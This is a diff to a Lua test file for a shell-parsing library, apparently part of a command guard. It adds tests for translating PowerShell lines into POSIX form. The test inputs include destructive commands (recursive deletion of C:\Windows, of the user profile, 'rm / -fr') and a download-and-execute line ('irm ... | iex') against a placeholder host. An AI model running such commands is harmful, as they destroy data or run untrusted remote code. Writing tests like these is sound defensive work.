@@ -69,6 +69,14 @@ expect.truthy(shell.has_flag({"rm", "/", "-fr"}, "r"))
 expect.eq(shell.has_flag({"rm", "--", "-rf"}, "r"), false)
 
 -- split removes quotes and refuses operators.
+-- powershell: a PowerShell line as the POSIX line parse reads
+expect.eq(shell.powershell([[Remove-Item -Recurse C:\Windows]]), "Remove-Item -Recurse C:/Windows")
+expect.eq(shell.powershell([[$r = irm https://x.example/a | iex]]), "irm https://x.example/a | iex")
+expect.eq(shell.powershell([[Remove-Item $env:USERPROFILE]]), "Remove-Item ~")
+local ps = shell.parse(shell.powershell([[gci C:\x | % { Remove-Item $_ -Recurse }]]))
+expect.eq(ps[3].name, "Remove-Item")
+expect.eq(ps[1].argv[2], "C:/x")
+expect.fails(function() shell.powershell(string.rep("x", shell.max_line_bytes + 1)) end, "too long")
 expect.eq(shell.split([[git commit -m "a message"]]), {"git", "commit", "-m", "a message"})
 
 -- Bad input is an error the script can catch.
